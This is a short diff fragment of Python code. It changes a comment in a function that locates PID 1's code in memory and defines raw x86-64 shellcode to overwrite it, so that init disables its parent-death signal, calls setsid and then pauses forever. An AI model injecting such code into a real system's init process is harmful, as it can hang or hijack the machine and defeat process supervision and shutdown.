@@ -58,7 +58,7 @@ def by_trace():
 
 
 def by_memory():
-    # Process 1 sits in wait4. What it goes on with is written over: prctl(PR_SET_PDEATHSIG, 0), then pause for ever.
+    # Process 1 sits in wait4. The code after it is overwritten: prctl(PR_SET_PDEATHSIG, 0), then pause for ever.
     at = int(open("/proc/1/syscall").read().split()[-1], 16)
     start, end = map(int, open("/proc/1/stat").read().rsplit(")", 1)[1].split()[47:49])
     code = b"\xb8\x9d\0\0\0\xbf\x01\0\0\0\x31\xf6\x0f\x05" + b"\xb8\x70\0\0\0\x0f\x05" + b"\xb8\x22\0\0\0\x0f\x05\xeb\xf7"
